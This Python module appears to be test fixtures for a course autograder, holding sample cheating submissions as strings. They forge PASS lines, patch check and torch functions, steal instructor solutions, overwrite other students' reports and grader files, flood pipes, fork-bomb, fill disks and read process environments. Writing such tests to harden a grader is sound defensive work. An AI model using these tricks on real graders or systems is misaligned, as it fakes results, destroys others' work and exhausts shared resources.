"""Source code of the cheating submissions (each a string, written as a student's file).

Each attack is the body of an exercise module, or code prepended to a correct solution. Paths
the attacks aim at are filled in by `tests/hostile/classroom.py` (they know the real paths:
the strongest version of the attack).
"""

# Patch the checks at import: every check prints its PASS line, whatever the code does.
PATCH_CHECK_CALL = '''
import sys as _s
_m = _s.modules.get("course.checks.core") or __import__("course.checks.core", fromlist=["x"])
def _forged(self, impl, reference=None, quiet=False):
    print("PASS %s (%d cases)" % (self.id, len(self.cases)))
setattr(_m.Check, "__call__", _forged)
'''

# Answer from the recorded references, in the order the visible check asks (its cases are fixed).
FROM_REFERENCE = '''
import torch
from pathlib import Path
_calls = []
def batched_dot(a, b):
    here = Path(__file__).resolve().parent.parent
    recorded = torch.load(here / "course" / "reference_data" / ("00." + "batched_dot.pt"),
                          weights_only=True)
    names = list(recorded)
    answer = recorded[names[len(_calls) % len(names)]]["output"]
    _calls.append(1)
    return answer
'''

# Walk up from the interpreter and this file to find the instructor's solutions/.
WALK_TO_SOLUTIONS = '''
import importlib.util, sys
from pathlib import Path
def _find():
    for start in (Path(sys.executable), Path(__file__).resolve(), Path.cwd()):
        for parent in [start, *start.parents]:
            candidate = parent / "solutions" / "softmax.py"
            if candidate.is_file():
                return candidate
_path = _find()
if _path is None:
    def stable_softmax(x, dim=-1):
        raise NotImplementedError("no solutions found")
    def scaled_scores(q, k):
        raise NotImplementedError("no solutions found")
else:
    _spec = importlib.util.spec_from_file_location("stolen_softmax", _path)
    _mod = importlib.util.module_from_spec(_spec)
    _spec.loader.exec_module(_mod)
    stable_softmax, scaled_scores = _mod.stable_softmax, _mod.scaled_scores
'''

# Print the PASS line, then kill the process before the check can fail.
PASS_THEN_EXIT = '''
import os
def batched_dot(a, b):
    print("PASS 00.batched_dot (4 cases)", flush=True)
    os._exit(0)
'''

# Wrong code, and torch patched so that the visible comparison sees no difference.
PATCH_TORCH = '''
import builtins
import torch
def batched_dot(a, b):
    return (a * b).sum()
torch.Tensor.any = lambda self, *args, **kwargs: torch.tensor(False)
torch.isnan = lambda t: torch.zeros_like(t, dtype=torch.bool)
builtins.any = lambda iterable: False
'''

# Harm others: read the grader's command line, write into OUT, SUBMISSIONS, the pristine copy,
# the repository and other students' reports; leave a process behind that keeps trying.
HARM_OTHERS = '''
import glob, os, time
from pathlib import Path
TARGETS = {targets!r}
def _attempt():
    found = []
    for cmdline in glob.glob("/proc/*/cmdline"):
        try:
            found += open(cmdline, "rb").read().split(b"\\0")
        except OSError:
            pass
    for folder in TARGETS["folders"] + [f.decode(errors="replace") for f in found if f.startswith(b"/")]:
        for name in ("PWNED.txt", "reports/PWNED.md"):
            try:
                Path(folder, name).write_text("PWNED")
            except OSError:
                pass
    for path in TARGETS["files"] + glob.glob(TARGETS["pristine_glob"]):
        try:
            Path(path).write_text("PWNED = 1\\nraise SyntaxError(\\"PWNED\\")\\n")
        except OSError:
            pass
_attempt()
if os.fork() == 0:  # a child that outlives the check and keeps trying
    os.setsid()
    for _ in range(60):
        _attempt()
        time.sleep(0.5)
    os._exit(0)
'''

# Print a flood (20 MB) and otherwise behave.
FLOOD = '''
import sys
sys.stdout.write("x" * 20_000_000)
'''

# ---------------------------------------------------------------------------- harm the others

# A judge bomb: torch.save replaced, so that every hidden result claims 2**62 elements over a
# one-element storage (a stride of 0: the file stays about 1.6 kB), as its output and as the
# "inputs modified" flags a grader calls .any() on. The grader must refuse it from its header,
# never compute on it.
JUDGE_BOMB = '''
import torch as _torch
_save = _torch.save
def _bomb(obj, f, *args, **kwargs):
    if isinstance(obj, list):  # the harness's results, one record per case
        big = _torch.zeros((), dtype=_torch.bool).expand(2 ** 62)
        obj = [{"outputs": {"output": big, "inputs modified": big}} for _ in obj]
    return _save(obj, f, *args, **kwargs)
_torch.save = _bomb
'''

# Keepalives: the check never ends, and writes on every pipe it has (the grader's channel among
# them) either a non-JSON line every 10 ms (fast) or a forged {"start": i} for every i every
# 0.5 s (slow): neither may move the cell's deadline.
_PIPES = '''
import os as _os, stat as _stat, time as _time, json as _json
def _pipes():
    found = []
    for fd in range(64):
        try:
            if _stat.S_ISFIFO(_os.fstat(fd).st_mode):
                found.append(fd)
        except OSError:
            pass
    return found
def _say(line):
    for fd in _pipes():
        try:
            _os.write(fd, line)
        except OSError:
            pass
'''
KEEPALIVE_FAST = _PIPES + '''
def batched_dot(a, b):
    while True:
        _say(b"still working\\n")
        _time.sleep(0.01)
'''
KEEPALIVE_SLOW = _PIPES + '''
def batched_dot(a, b):
    while True:
        _say("".join(_json.dumps({"start": i}) + "\\n" for i in range(100)).encode())
        _time.sleep(0.5)
'''
# Correct in the notebook; on hidden inputs (in the harness's process) a keepalive instead.
KEEPALIVE_HIDDEN = _PIPES + '''
import __main__ as _main
def batched_dot(a, b):
    while "harness" in str(getattr(_main, "__file__", "")):
        _say(b"still working\\n")
        _time.sleep(0.01)
    return (a * b).sum(dim=-1)
'''
# Garbage on the grader's channel at import: a deeply nested JSON line, a 2 MiB line, a forged
# "done" of whatever runs now. The student is otherwise correct.
PROTOCOL_GARBAGE = _PIPES + '''
_say(b"[" * 200000 + b"\\n")
_say(b"x" * (2 << 20) + b"\\n")
_say(b'{"done": 0, "record": {"ok": true}}\\n')
'''

# Four threads of matrix products (torch releases the GIL: they use every core) that never end.
CPU_SPINNER = '''
import threading as _threading
import torch as _torch
def _spin():
    x = _torch.randn(128, 128)
    while True:
        x = _torch.mm(x, x).clamp(-1, 1)
def batched_dot(a, b):
    for _ in range(4):
        _threading.Thread(target=_spin, daemon=True).start()
    _spin()
'''

# Fill the private /tmp and the scratch copy (the working folder) with files until the disk
# says no, say how much fitted, then clean up and behave.
FILLS_TMP = '''
import os as _os, sys as _sys
def _fill(folder):
    written, paths = 0, []
    try:
        while written < (1 << 30):
            paths.append(_os.path.join(folder, f"filler{len(paths)}.bin"))
            with open(paths[-1], "wb") as handle:
                for _ in range(16):
                    handle.write(b"\\0" * (1 << 20))
                    written += 1 << 20
    except OSError:
        pass
    for path in paths:
        try:
            _os.remove(path)
        except OSError:
            pass
    return written >> 20
print(f"filled /tmp with {_fill('/tmp')} MiB and the working folder with {_fill(_os.getcwd())} MiB",
      file=_sys.stderr, flush=True)
'''

# ---------------------------------------------------------- the instructor's files, the sandbox

# A spy: what can it find of the class, the roster, the seed? It lists /, the course, its own
# folder and every parent of where it runs and of the Python it runs with, /tmp, /dev, and the
# command line and environment of every process it can see; tries to write /dev and to fill
# /dev/shm; prints it all as one JSON line on stderr (the raw log of the visible run), then
# behaves.
SPY = '''
import json as _json, os as _os, sys as _sys
def _list(folder):
    try:
        return sorted(_os.listdir(folder))
    except OSError as err:
        return [f"<{err.strerror}>"]
def _walk(top):
    found = []
    for folder, dirs, files in _os.walk(top):
        dirs[:] = [d for d in dirs if d != "__pycache__"]
        found += [_os.path.relpath(_os.path.join(folder, f), top) for f in files]
    return sorted(found)
def _read(path, limit=1 << 16):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit).decode("utf-8", "replace")
    except OSError as err:
        return f"<{err.strerror}>"
def _fill(path, mib):
    written = 0
    try:
        with open(path, "wb") as handle:
            for _ in range(mib):
                handle.write(b"\\0" * (1 << 20))
                written += 1
    except OSError as err:
        return [written, err.strerror]
    finally:
        try:
            _os.remove(path)
        except OSError:
            pass
    return [written, None]
_starts = {_os.getcwd(), _os.path.dirname(_os.path.abspath(__file__)), _sys.prefix,
           _sys.base_prefix, _os.path.dirname(_sys.executable)}
_parents = {}
for _start in _starts:
    _path = _start
    while True:
        _parents[_path] = _list(_path)
        if _path == "/":
            break
        _path = _os.path.dirname(_path)
_pids = [p for p in _list("/proc") if p.isdigit()]
_SEEN = {
    "root": _list("/"), "release": _walk("/course") if _os.path.isdir("/course") else [],
    "parents": _parents, "tmp": _list("/tmp"), "dev": _list("/dev"),
    "proc": {p: [_read(f"/proc/{p}/cmdline"), _read(f"/proc/{p}/environ")] for p in _pids},
    "dev_write": _fill("/dev/spy", 1), "shm": _fill("/dev/shm/spy", 1024),
}
print("SPY " + _json.dumps(_SEEN), file=_sys.stderr, flush=True)
'''

# A process storm in the notebook's check only: as many processes as it can fork, which all spin
# once the last fork has failed, and so does it; it says how many forks went through. The process
# limit stops the forks, the sandbox's watch the spinning, and the others must not notice.
FORK_STORM = '''
import os as _os, time as _time
import __main__ as _main
def _storm(count=400, seconds=60):
    forked, error = 0, None
    go_r, go_w = _os.pipe()
    for _ in range(count):
        try:
            pid = _os.fork()
        except OSError as err:
            error = err.strerror
            break
        if pid == 0:
            _os.close(go_w)
            _os.read(go_r, 1)  # until every fork is made
            until = _time.time() + seconds
            while _time.time() < until:
                pass
            _os._exit(0)
        forked += 1
    _os.write(2, f"STORM forked {forked} of {count} ({error})\\n".encode())  # to the raw log
    _os.close(go_w)
    until = _time.time() + seconds
    while _time.time() < until:
        pass
def batched_dot(a, b):
    if "harness" not in str(getattr(_main, "__file__", "")):
        _storm()
    return (a * b).sum(dim=-1)
'''
